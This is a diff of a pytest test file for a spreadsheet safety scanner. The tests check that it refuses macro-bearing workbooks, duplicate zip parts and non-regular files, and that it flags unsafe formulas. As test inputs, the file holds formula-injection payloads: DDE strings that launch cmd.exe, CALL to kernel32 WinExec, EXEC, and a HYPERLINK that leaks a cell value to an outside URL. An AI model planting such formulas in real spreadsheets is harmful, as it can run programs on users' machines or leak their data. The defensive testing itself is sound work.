@@ -6,10 +6,13 @@ its docstring defines it, on generated sheets."""
 
 from __future__ import annotations
 
+import contextlib
 import io
+import os
 import re
 import shutil
 import struct
+import threading
 import tracemalloc
 import zipfile
 import zlib
@@ -287,13 +290,15 @@ def test_the_screened_count_agrees_with_the_definition(xml):
 # --- Formulas and impossible dates: the rare-byte searches first -----------------------------------
 
 @settings(max_examples=300, deadline=None)
-@given(text=hs.text(hs.sampled_from(list("<>:/ fvx\"=0123456789.-eE+")), max_size=40))
+@given(text=hs.text(hs.sampled_from(list("<>:/ fvx\"=0123456789.-eE+#")), max_size=40))
 def test_the_screens_find_whatever_the_full_searches_find(text):
     xml = text.encode()
     if safety._FORMULA_TAG.search(xml):
         assert safety._FORMULA_SCREEN.search(xml)
     if safety._SUSPECT_NUMBER.search(xml):
         assert safety._SUSPECT_SCREEN.search(xml)
+    if safety._SUSPECT_SCREEN.search(xml) or re.search(rb"<(\w+:)?v>#", xml):
+        assert safety._VALUE_SCREEN.search(xml)  # the single pass for both kinds of value
 
 
 @pytest.mark.parametrize("formula", [
@@ -310,7 +315,13 @@ def test_text_that_looks_like_a_formula_tag_is_not_a_formula(tmp_path):
     rows = ('<row r="2"><c r="B2" t="inlineStr"><is><t>of the f&gt; x:f </t></is></c>'
             '<c r="C2"><f>A1</f><v>3</v></c></row>')
     scan = _scan_sheets(tmp_path, {"S": rows})
-    assert scan.formulas == {}
+    assert list(scan.formulas["S"]) == ["C2"]  # the real formula, with its saved result
+    assert scan.formulas["S"]["C2"].usable
+
+
+def test_a_sheet_without_formulas_or_error_values_has_none(tmp_path):
+    rows = '<row r="2"><c r="B2" t="s"><v>0</v></c><c r="C2" t="n"><v>3</v></c></row>'
+    assert _scan_sheets(tmp_path, {"S": rows}).formulas == {}
 
 
 @pytest.mark.parametrize("value", ["-5", "12345678", "1.5E+20", "2e7"])
@@ -422,19 +433,20 @@ def test_a_name_in_code_page_437_reads_back_as_the_same_name(tmp_path):
     assert _same_cells_both_ways(path)["S"][1] == [[4.0]]
 
 
-def test_of_a_name_held_twice_the_checked_last_one_is_handed_on(tmp_path):
-    """The scan looks at the last member of a name (as zipfile reads it); calamine must not get
-    the other one."""
+@pytest.mark.parametrize("second", ["xl/worksheets/sheet1.xml", "XL/Worksheets/Sheet1.xml"])
+def test_a_zip_holding_a_name_twice_is_refused(tmp_path, second):
+    """Which of the two a program reads is up to the program (Excel compares part names
+    ignoring case): what was checked need not be what is read, so neither is."""
     parts = _workbook({"S": '<row r="1"><c r="A1"><v>1</v></c></row>'})
     path = _write_zip(tmp_path / "a.xlsx", parts)
-    last = parts["xl/worksheets/sheet1.xml"].replace(b"<v>1</v>", b"<f>Z</f>")  # same length
-    with pytest.warns(UserWarning, match="Duplicate name"), zipfile.ZipFile(path, "a") as zf:
-        zf.writestr("xl/worksheets/sheet1.xml", last)
+    other = parts["xl/worksheets/sheet1.xml"].replace(b"<v>1</v>", b"<v>9</v>")
+    warns = (pytest.warns(UserWarning, match="Duplicate name") if second in parts
+             else contextlib.nullcontext())  # zipfile warns of the same name only
+    with warns, zipfile.ZipFile(path, "a") as zf:
+        zf.writestr(second, other)
     scan = safety.scan_file(path)
-    assert list(scan.formulas["S"]) == ["A1"]
-    with zipfile.ZipFile(io.BytesIO(scan.data)) as zf:
-        assert zf.namelist().count("xl/worksheets/sheet1.xml") == 1
-        assert zf.read("xl/worksheets/sheet1.xml") == last
+    assert scan.refused and scan.data is None
+    assert _rules(scan) == [("IN016", {"part": second})]
 
 
 def test_a_member_inflating_past_its_declared_size_is_not_handed_on(tmp_path):
@@ -507,3 +519,222 @@ def test_an_external_link_is_named_after_its_target(tmp_path):
         "</Relationships>").encode()
     scan = safety.scan_file(_write_zip(tmp_path / "a.xlsx", parts))
     assert scan.formulas["S"]["B2"].external == "other.xlsx"
+
+
+# --- Macros: refused before calamine opens the file -----------------------------------------------
+
+_XLSM_TYPE = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
+_VBA_TYPE = "application/vnd.ms-office.vbaProject"
+
+
+def _content_types(*extra: str) -> bytes:
+    return ('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+            '<Default Extension="xml" ContentType="application/xml"/>'
+            + "".join(extra) + "</Types>").encode()
+
+
+def _compound(names: list[str]) -> bytes:
+    """A compound (OLE) file's bytes as the scan sees them: the 512-byte header, then one
+    directory sector of 128-byte entries (name in UTF-16LE padded to 64 bytes, its length in
+    bytes with the terminator, then the rest of the entry)."""
+    entries = b"".join(n.encode("utf-16-le").ljust(64, b"\0")
+                       + struct.pack("<H", 2 * len(n) + 2) + bytes(62) for n in names)
+    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + entries.ljust(512, b"\0")
+
+
+def _macro_workbook(**extra: bytes) -> dict[str, bytes]:
+    parts = _workbook({"S": '<row r="1"><c r="A1"><v>1</v></c></row>'})
+    parts["[Content_Types].xml"] = _content_types()
+    parts.update(extra)
+    return parts
+
+
+@pytest.mark.parametrize("parts, what", [
+    (_macro_workbook(**{"xl/vbaProject.bin": _compound(["Root Entry", "VBA"])}),
+     "VBA 宏“xl/vbaProject.bin”"),
+    (_macro_workbook(**{"xl/media/vbaproject2.bin": b"anything"}),
+     "VBA 宏“xl/media/vbaproject2.bin”"),
+    # a binary part under another name, declared as a VBA project by its extension's type
+    (_macro_workbook(**{"[Content_Types].xml": _content_types(
+        f'<Default Extension="bin" ContentType="{_VBA_TYPE}"/>'), "xl/x.bin": b"\0" * 64}),
+     "VBA 宏"),
+    (_macro_workbook(**{"[Content_Types].xml": _content_types(
+        f'<Override PartName="/xl/workbook.xml" ContentType="{_XLSM_TYPE}"/>')}),
+     "启用宏的工作簿（.xlsm）"),
+    (_macro_workbook(**{"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}),
+     "Excel 4.0 宏表“xl/macrosheets/sheet1.xml”"),
+    # an embedded object (any name) holding a VBA project
+    (_macro_workbook(**{"xl/embeddings/oleObject1.bin": _compound(
+        ["Root Entry", "Macros", "_VBA_PROJECT_CUR"])}),
+     "VBA 宏“xl/embeddings/oleObject1.bin”"),
+])
+def test_an_xlsx_holding_macros_is_refused(tmp_path, parts, what):
+    scan = safety.scan_file(_write_zip(tmp_path / "a.xlsx", parts))
+    assert _rules(scan) == [("IN015", {"what": what})]
+    assert scan.refused and scan.data is None and scan.formulas == {}
+
+
+def test_an_ods_holding_basic_macros_is_refused(tmp_path):
+    parts = {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
+             "content.xml": b"<office:document-content/>",
+             "Basic/script-lc.xml": b"<library:libraries/>",
+             "Basic/Standard/Module1.xml": b"<script:module>Sub Main</script:module>"}
+    scan = safety.scan_file(_write_zip(tmp_path / "a.ods", parts))
+    assert _rules(scan) == [("IN015", {"what": "LibreOffice 宏“Basic/Standard/Module1.xml”"})]
+
+
+def test_a_workbook_without_macros_is_not_refused_for_them(tmp_path):
+    parts = _macro_workbook(**{"xl/embeddings/oleObject1.bin": _compound(["Root Entry", "Book"])})
+    scan = safety.scan_file(_write_zip(tmp_path / "a.xlsx", parts))
+    assert not scan.refused and scan.kind == safety.XLSX
+
+
+@pytest.mark.parametrize("storage", ["_VBA_PROJECT_CUR", "VBA"])
+def test_an_xls_holding_a_vba_project_is_refused(tmp_path, storage):
+    data = _compound(["Root Entry", "Workbook", storage])
+    assert _rules(_scan_bytes(tmp_path, data)) == [("IN015", {"what": "VBA 宏"})]
+
+
+def test_vba_in_a_cell_of_an_xls_is_not_a_vba_project(tmp_path):
+    """The name must be a directory entry (aligned, padded, with its length), not any text."""
+    text = "VBA".encode("utf-16-le") + bytes(61) + struct.pack("<H", 8)
+    data = _compound(["Root Entry", "Workbook"]) + b"\0" * 3 + text + bytes(128)
+    scan = _scan_bytes(tmp_path, data)
+    assert not scan.refused and scan.kind == safety.XLS
+
+
+# --- Formulas and error values ---------------------------------------------------------------------
+
+@pytest.mark.parametrize("text", [
+    "B4+C4", "SUM(B4:B9)", "sum(B4:B9, 3)", "($B$4+2)*3/4-1.5E2", "-B4", "10/.5", "12", "B4 - C4",
+])
+def test_plain_arithmetic_over_the_sheet_is_usable(tmp_path, text):
+    scan = _scan_sheets(tmp_path, {"S": f'<row r="2"><c r="B2"><f>{text}</f><v>3</v></c></row>'})
+    formula = scan.formulas["S"]["B2"]
+    assert (formula.text, formula.reason, formula.usable) == (f"={text}", None, True)
+
+
+@pytest.mark.parametrize("text, reason", [
+    ("cmd|' /C calc'!A0", "会启动其他程序（DDE 链接），可被用来攻击电脑"),
+    ("msexcel|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", "会启动其他程序（DDE 链接），可被用来攻击电脑"),
+    ('HYPERLINK("http://example.com/?"&amp;B4,3)', "使用了函数 HYPERLINK"),
+    ('_xlfn.WEBSERVICE("http://example.com")', "使用了函数 WEBSERVICE"),
+    ('INDIRECT("B4")+1', "使用了函数 INDIRECT"),
+    ('CALL("kernel32","WinExec","JCJ","calc",0)', "使用了函数 CALL"),
+    ('REGISTER("a")+EXEC("calc")+TODAY()+NOW()', "使用了函数 REGISTER、EXEC、TODAY等"),
+    ("SUM(B4:B9)+ROUND(B4,0)", "使用了函数 ROUND"),
+    ("Sheet2!B4+1", "引用了其他工作表"),
+    ("总数*2", "不是对本表单元格的简单加减乘除"),
+    ("B4%", "不是对本表单元格的简单加减乘除"),
+    ("1" * 60 + "x", "不是对本表单元格的简单加减乘除"),  # refused at once, not by backtracking
+])
+def test_any_other_formula_is_not_usable_and_says_why(tmp_path, text, reason):
+    scan = _scan_sheets(tmp_path, {"S": f'<row r="2"><c r="B2"><f>{text}</f><v>3</v></c></row>'})
+    formula = scan.formulas["S"]["B2"]
+    assert formula.reason == reason and not formula.usable
+
+
+def test_a_shared_formula_is_judged_by_its_first_cell(tmp_path):
+    rows = ('<row r="2"><c r="B2"><f t="shared" ref="B2:B3" si="0">A2*2</f><v>2</v></c></row>'
+            '<row r="3"><c r="B3"><f t="shared" si="0"/><v>4</v></c></row>'
+            '<row r="4"><c r="B4"><f t="shared" ref="B4:B5" si="1">INDIRECT(A4)</f><v>1</v></c>'
+            '</row><row r="5"><c r="B5"><f t="shared" si="1"/><v>1</v></c></row>')
+    found = _scan_sheets(tmp_path, {"S": rows}).formulas["S"]
+    assert [found[c].usable for c in ("B2", "B3", "B4", "B5")] == [True, True, False, False]
+    assert str(found["B3"]) == "（共享公式）"
+    assert found["B5"].reason == "使用了函数 INDIRECT"
+
+
+def test_error_values_are_found_with_and_without_a_formula(tmp_path):
+    rows = ('<row r="2"><c r="B2" t="e"><f>A1/0</f><v>#DIV/0!</v></c>'
+            '<c r="C2" t="e"><v>#N/A</v></c><c r="D2" t="str"><f>A1</f><v>#text</v></c></row>')
+    found = _scan_sheets(tmp_path, {"S": rows}).formulas["S"]
+    assert (found["B2"].text, found["B2"].error, found["B2"].reason) == ("=A1/0", "#DIV/0!", None)
+    assert (found["C2"].text, found["C2"].error, str(found["C2"])) == ("", "#N/A", "#N/A")
+    assert not found["B2"].usable and not found["C2"].usable
+    assert found["D2"].error is None and found["D2"].usable  # text that starts with #
+
+
+def test_an_error_value_alone_is_found_by_the_value_screen(tmp_path):
+    """No formula in the sheet: only the screen for values finds the error."""
+    scan = _scan_sheets(tmp_path, {"S": '<row r="2"><c r="B2" t="e"><v>#REF!</v></c></row>'})
+    assert scan.formulas["S"]["B2"].error == "#REF!"
+
+
+def test_a_usable_formula_takes_the_value_calamine_reads(tmp_path):
+    scan = _scan_sheets(tmp_path, {"S": '<row r="2"><c r="B2"><f>1+2</f><v>3</v></c>'
+                                        '<c r="C2"><f>1+2</f></c></row>'})
+    assert scan.formulas["S"]["B2"].reading(3.0).value == 3.0
+    unsaved = scan.formulas["S"]["C2"]
+    assert not unsaved.cached and unsaved.reading(7.0) is unsaved
+
+
+# --- Files that are not regular files ---------------------------------------------------------------
+
+def _in_time(fn, seconds: float = 30):
+    """fn() in a daemon thread: a call that blocks (a FIFO opened for reading waits for a
+    writer) fails the test instead of hanging it."""
+    done: list = []
+    thread = threading.Thread(target=lambda: done.append(fn()), daemon=True)
+    thread.start()
+    thread.join(seconds)
+    assert done, f"still waiting after {seconds} s"
+    return done[0]
+
+
+def test_a_fifo_is_refused_without_waiting_for_a_writer(tmp_path):
+    fifo = tmp_path / "a.xlsx"
+    os.mkfifo(fifo)
+    scan = _in_time(lambda: safety.scan_file(fifo))
+    assert _rules(scan) == [("IN001", {"reason": "这不是普通文件（可能是文件夹、管道或设备）"})]
+
+
+def test_a_folder_named_like_a_workbook_is_refused(tmp_path):
+    (tmp_path / "a.xlsx").mkdir()
+    scan = safety.scan_file(tmp_path / "a.xlsx")
+    assert scan.refused and [p.rule for p in scan.problems] == ["IN001"]
+
+
+# --- Formulas and error values in an .ods (content.xml) ---------------------------------------------
+
+_ODS_CONTENT = (
+    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
+    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
+    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
+    'xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0">'
+    '<office:body><office:spreadsheet><table:table table:name="S">'
+    '<table:table-header-rows><table:table-row><table:table-cell/></table:table-row>'
+    '</table:table-header-rows>'
+    '<table:table-row table:number-rows-repeated="2"><table:table-cell '
+    'table:number-columns-repeated="2"/><table:covered-table-cell/>'
+    '<table:table-cell table:formula="of:=[.A1]+1" office:value-type="float" office:value="1"/>'
+    '</table:table-row>'
+    '<table:table-row><table:table-cell table:formula="of:=SUM([.B2:.B3];2)" '
+    'office:value-type="float" office:value="2"/>'
+    '<table:table-cell table:formula="of:=1/0" office:value-type="string" '
+    'calcext:value-type="error"><text:p>#DIV/0!</text:p></table:table-cell>'
+    '<table:table-cell table:formula="of:=[$Sheet2.A1]"/>'
+    """<table:table-cell table:formula="of:=['file:///D:/%E6%8A%A5%E8%A1%A8/a.ods'#$Sheet1.A1]" """
+    'office:value-type="float" office:value="7"/>'
+    '<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;A1&quot;)" '
+    'office:value-type="float" office:value="0"/>'
+    '</table:table-row></table:table>'
+    '<table:table table:name="T"><table:table-row><table:table-cell/></table:table-row>'
+    '</table:table></office:spreadsheet></office:body></office:document-content>')
+
+
+def test_formulas_and_error_values_of_an_ods_are_found_at_their_cells(tmp_path):
+    parts = {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
+             "content.xml": _ODS_CONTENT.encode()}
+    scan = safety.scan_file(_write_zip(tmp_path / "a.ods", parts))
+    assert not scan.refused and list(scan.formulas) == ["S"]  # T holds none
+    found = scan.formulas["S"]
+    assert {cell: str(f) for cell, f in found.items()} == {
+        "D2": "=A1+1", "D3": "=A1+1",  # a row written once for two
+        "A4": "=SUM(B2:B3,2)", "B4": "=1/0", "C4": "=Sheet2!A1",
+        "D4": "=[a.ods]Sheet1!A1", "E4": '=DDE("soffice","x","A1")'}
+    assert found["D2"].usable and found["A4"].usable
+    assert found["B4"].error == "#DIV/0!"
+    assert (found["C4"].reason, found["C4"].cached) == ("引用了其他工作表", False)
+    assert found["D4"].external == "a.ods"
+    assert found["E4"].reason == "会启动其他程序（DDE 链接），可被用来攻击电脑"
